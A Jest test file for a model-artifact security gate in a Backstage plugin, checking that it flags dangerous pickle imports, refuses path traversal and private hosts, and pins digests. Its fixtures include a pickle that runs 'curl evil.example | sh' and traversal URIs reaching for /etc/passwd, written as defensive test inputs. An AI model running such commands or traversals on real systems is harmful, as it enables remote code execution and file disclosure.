import {
  mockServices,
  type TestDatabaseId,
} from '@backstage/backend-test-utils';
import type {
  ArtifactScanEvidence,
  ModelArtifact,
  Tier,
} from '@modelhub/backstage-plugin-models-common';
import { scanArtifact } from '@modelhub/scanner';
import type { JsonObject } from '@backstage/types';
import {
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { databaseIds, migratedDatabase, TestClock } from '../../__testUtils__';
import type { Transactions } from '../../database';
import { subject } from '../__testUtils__';
import { artifactScanGate } from './artifactScanGate';
import type { ArtifactConfig } from './readArtifactConfig';
import { ThreadScanner, type ArtifactScanner } from './ThreadScanner';
import { calling, safetensors, sha256, zip } from './__testUtils__/artifacts';

jest.setTimeout(120_000);

/** How the backend loads TypeScript when it is developed. */
const execArgv = [
  '--require',
  require.resolve('@backstage/cli-node/config/nodeTransform.cjs'),
];

const payload = zip({
  'model/data.pkl': calling('os', 'system', 'curl evil.example | sh'),
  'model/version': Buffer.from('3\n'),
});
const legacy = calling('acme.training', 'LabelEncoder', 'tickets');

describe.each(databaseIds)(
  'artifact security on %s',
  (databaseId: TestDatabaseId) => {
    let transactions: Transactions;
    let folder: string;
    let server: Server;
    let served: Map<string, Buffer | number>;
    let host: string;

    beforeAll(async () => {
      ({ transactions } = await migratedDatabase(databaseId));
      folder = realpathSync(mkdtempSync(join(tmpdir(), 'artifacts-')));
      writeFileSync(join(folder, 'good.safetensors'), safetensors());
      writeFileSync(join(folder, 'legacy.pkl'), legacy);
      symlinkSync(tmpdir(), join(folder, 'out'));
      served = new Map<string, Buffer | number>();
      server = createServer((request, response) => {
        const found = served.get(request.url ?? '') ?? 404;
        if (typeof found === 'number') {
          response.writeHead(found).end();
          return;
        }
        response.writeHead(200, {
          'content-length': found.length,
          etag: '"1"',
        });
        response.end(request.method === 'HEAD' ? undefined : found);
      });
      await new Promise<void>(resolve => {
        server.listen(0, '127.0.0.1', resolve);
      });
      host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    afterAll(async () => {
      rmSync(folder, { recursive: true });
      await new Promise(resolve => {
        server.close(resolve);
      });
    });
    beforeEach(async () => {
      await transactions.knex('gate_artifact_scans').delete();
    });

    const config = (changes: Partial<ArtifactConfig> = {}): ArtifactConfig => ({
      access: {
        schemes: ['https', 'path'],
        hosts: [host],
        privateHosts: [host],
        plainHosts: [host],
      },
      folder,
      env: {},
      logins: {},
      timeoutSeconds: 60,
      memoryMiB: 256,
      concurrency: 1,
      ...changes,
    });

    /** The gate, with how often something was really scanned. */
    function open(changes: Partial<ArtifactConfig> = {}) {
      const used = config(changes);
      const threads = ThreadScanner.create({
        memoryMiB: used.memoryMiB,
        execArgv,
      });
      const scanned: string[] = [];
      const told: string[] = [];
      const scanner: ArtifactScanner = {
        scan: (request, options) => {
          scanned.push(request.uri);
          return threads.scan(request, options);
        },
      };
      const clock = new TestClock();
      const gate = artifactScanGate({
        config: used,
        transactions,
        clock,
        scanner,
      });
      const evaluate = async (
        artifact: ModelArtifact | undefined,
        params: JsonObject = {},
        options: { tier?: Tier; signal?: AbortSignal } = {},
      ) => {
        const outcome = await gate.evaluate(
          subject({ version: { name: '1', artifact }, tier: options.tier }),
          params,
          {
            logger: mockServices.logger.mock(),
            signal: options.signal ?? new AbortController().signal,
            now: clock.now(),
            getEntities: async () => new Map(),
            progress: ({ message }) => told.push(message),
          },
        );
        return {
          ...outcome,
          evidence: outcome.evidence as ArtifactScanEvidence | undefined,
        };
      };
      return { gate, evaluate, scanned, told, clock };
    }

    it('reads bytes that are known by digest once, for every tier', async () => {
      const { evaluate, scanned, told, clock } = open();
      const artifact = {
        uri: 'file:///good.safetensors',
        digest: sha256(safetensors()),
      };
      const first = await evaluate(artifact);
      expect(first).toMatchObject({
        verdict: 'pass',
        summary: 'Nothing was found in 1 file.',
        findings: [],
        evidence: {
          kind: 'artifact-scan',
          uri: artifact.uri,
          digest: artifact.digest,
          declaredDigest: artifact.digest,
          verdict: 'clean',
          files: 1,
          bytes: safetensors().length,
          formats: [{ format: 'safetensors', files: 1 }],
          notRead: [],
          reused: false,
          scannedAt: '2026-11-02T09:00:00.000Z',
        },
      });
      expect(told[0]).toBe('Opening the artifact');

      clock.advance(3600);
      const second = await evaluate(
        artifact,
        { failOn: 'low' },
        { tier: 'regulated' },
      );
      expect(scanned).toHaveLength(1);
      expect(second).toMatchObject({
        verdict: 'pass',
        evidence: {
          reused: true,
          scannedAt: '2026-11-02T09:00:00.000Z',
          failOn: 'low',
        },
      });
      expect(second.files).toEqual(first.files);
      expect(first.files?.map(({ name }) => name)).toEqual([
        'bom.cdx.json',
        'scan.json',
        'scan.sarif',
      ]);
      const [bom, report, sarif] = (first.files ?? []).map(({ text }) =>
        JSON.parse(text),
      );
      expect(bom).toMatchObject({
        bomFormat: 'CycloneDX',
        metadata: { component: { type: 'machine-learning-model', name: 'm' } },
        components: [
          {
            name: 'good.safetensors',
            hashes: [{ alg: 'SHA-256', content: artifact.digest.slice(7) }],
          },
        ],
      });
      expect(report).toMatchObject({
        uri: artifact.uri,
        digest: artifact.digest,
        verdict: 'clean',
      });
      expect(sarif).toMatchObject({ version: '2.1.0' });
      // Where the portal keeps its files is nobody's business.
      expect(JSON.stringify(first)).not.toContain(folder);

      // The name tells loaders what the bytes are, so it is another question.
      writeFileSync(join(folder, 'renamed.bin'), safetensors());
      await evaluate({ ...artifact, uri: 'file:///renamed.bin' });
      expect(scanned).toHaveLength(2);
    });

    it('finds what hides in an archive, and where', async () => {
      served.set('/model.bin', payload);
      const { evaluate } = open();
      const outcome = await evaluate({
        uri: `http://${host}/model.bin`,
        digest: sha256(payload),
      });
      expect(outcome.verdict).toBe('fail');
      expect(outcome.summary).toContain('model.bin, at model/data.pkl@');
      expect(outcome.evidence).toMatchObject({
        verdict: 'malicious',
        counts: { critical: expect.any(Number) },
      });
      expect(outcome.evidence?.findings[0]).toMatchObject({
        rule: 'pickle-dangerous-import',
        severity: 'critical',
        file: 'model.bin',
        location: expect.stringMatching(/^model\/data\.pkl@\d+$/),
        message: expect.stringContaining('os.system'),
        explanation: expect.stringContaining('Do not load it'),
        blocks: true,
      });
      expect(outcome.findings[0]).toMatchObject({ severity: 'critical' });
    });

    it('stops from the severity on that the policy names', async () => {
      const { evaluate, scanned } = open();
      const artifact = { uri: 'file:///legacy.pkl', digest: sha256(legacy) };
      const lax = await evaluate(artifact, { failOn: 'critical' });
      expect(lax).toMatchObject({ verdict: 'warn' });
      expect(lax.evidence?.findings[0]).toMatchObject({
        rule: 'pickle-unknown-import',
        severity: 'high',
        blocks: false,
      });
      expect(await evaluate(artifact, { failOn: 'high' })).toMatchObject({
        verdict: 'fail',
      });
      expect(await evaluate(artifact)).toMatchObject({ verdict: 'fail' });
      expect(scanned).toHaveLength(1);
    });

    it('fails what cannot be judged to its end, whatever the policy stops', async () => {
      const cut = payload.subarray(0, payload.length - 30);
      served.set('/cut.bin', cut);
      const outcome = await open().evaluate(
        { uri: `http://${host}/cut.bin`, digest: sha256(cut) },
        { failOn: 'critical' },
      );
      expect(outcome.verdict).toBe('fail');
      expect(outcome.evidence?.notRead).not.toEqual([]);
    });

    it('fails other bytes than the catalog names, and keeps nothing for those', async () => {
      const { evaluate, scanned } = open();
      const artifact = {
        uri: 'file:///good.safetensors',
        digest: sha256(legacy),
      };
      for (let times = 1; times <= 2; times++) {
        const outcome = await evaluate(artifact, { failOn: 'critical' });
        expect(outcome.verdict).toBe('fail');
        expect(outcome.summary).toContain('not what the catalog says');
        expect(outcome.evidence).toMatchObject({
          digest: sha256(safetensors()),
          declaredDigest: artifact.digest,
        });
        expect(scanned).toHaveLength(times);
      }
    });

    it('pins what no digest pins, and reads it again each time', async () => {
      const { gate, evaluate, scanned } = open();
      const artifact = { uri: 'file:///good.safetensors' };
      expect((await evaluate(artifact)).evidence).toMatchObject({
        digest: sha256(safetensors()),
      });
      await evaluate(artifact);
      expect(scanned).toHaveLength(2);
      const maxAge = gate.maxAgeSeconds as (
        about: object,
      ) => number | undefined;
      expect(maxAge(subject({ version: { name: '1', artifact } }))).toBe(0);
      expect(
        maxAge(
          subject({
            version: {
              name: '1',
              artifact: { ...artifact, digest: 'sha256:0' },
            },
          }),
        ),
      ).toBeUndefined();
    });

    it.each([
      ['hf://org/model', 'not read here'],
      ['https://example.com/model.bin', 'allowedHosts'],
      ['ftp://example.com/model.bin', 'not read'],
      ['/etc/passwd', 'no address of an artifact'],
      ['file:///../../../etc/passwd', 'There is no /etc/passwd'],
      ['file:///out/x', 'There is no'],
      ['file:///out', 'leads out of the folder'],
      ['file://host/good.safetensors', 'no address of a file'],
    ])('reads nothing at %s, and does not try again', async (uri, words) => {
      const outcome = await open().evaluate({ uri });
      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
      expect(outcome.summary).toContain(words);
    });

    it('reaches no private address unless it is listed', async () => {
      served.set('/good.safetensors', safetensors());
      const access = {
        schemes: ['https' as const],
        hosts: [host],
        plainHosts: [host],
      };
      const outcome = await open({ access }).evaluate({
        uri: `http://${host}/good.safetensors`,
      });
      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
      expect(outcome.summary).toContain('not public');
    });

    it('reads no files without a folder', async () => {
      const outcome = await open({ folder: undefined }).evaluate({
        uri: 'file:///good.safetensors',
      });
      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
      expect(outcome.summary).toContain('modelGovernance.artifacts.folder');
    });

    it('says what to do when a server has no such file', async () => {
      const outcome = await open().evaluate({ uri: `http://${host}/gone.bin` });
      expect(outcome).toMatchObject({ verdict: 'error', isFinal: true });
      expect(outcome.summary).toContain("model's YAML");
    });

    it('asks for files where the policy does', async () => {
      const { gate, evaluate } = open();
      const about = subject({ version: { name: '1' } });
      expect(gate.appliesTo(about, {})).toBe(false);
      expect(gate.notApplicable).toContain('the provider runs the model');
      expect(gate.appliesTo(about, { requireArtifact: true })).toBe(true);
      expect(
        await evaluate(undefined, { requireArtifact: true }),
      ).toMatchObject({
        verdict: 'fail',
        findings: [{ id: 'artifact-missing' }],
      });
    });

    it('survives what outgrows its thread', async () => {
      const outcome = await open({ memoryMiB: 4 }).evaluate({
        uri: 'file:///good.safetensors',
      });
      expect(outcome).toMatchObject({
        verdict: 'fail',
        findings: [{ id: 'scan-exhausted' }],
      });
    });

    it('ends the thread when nobody waits any more', async () => {
      const aborting = new AbortController();
      const { evaluate } = open();
      const answer = evaluate(
        { uri: 'file:///good.safetensors' },
        {},
        { signal: aborting.signal },
      );
      aborting.abort(new Error('withdrawn'));
      await expect(answer).rejects.toThrow('withdrawn');
    });

    it('answers as a scan on a laptop does', async () => {
      served.set('/model.bin', payload);
      writeFileSync(join(folder, 'model.bin'), payload);
      const remote = await open().evaluate({ uri: `http://${host}/model.bin` });
      const local = await scanArtifact(join(folder, 'model.bin'), {
        access: { schemes: ['path'] },
      });
      const [{ findings }] = local.files;
      expect(findings.length).toBeGreaterThan(0);
      expect(
        remote.evidence?.findings.map(
          ({ rule, severity, location, message }) => ({
            rule,
            severity,
            location,
            message,
          }),
        ),
      ).toEqual(findings);
      expect(remote.evidence).toMatchObject({
        verdict: local.verdict,
        digest: local.digest,
      });
    });
  },
);
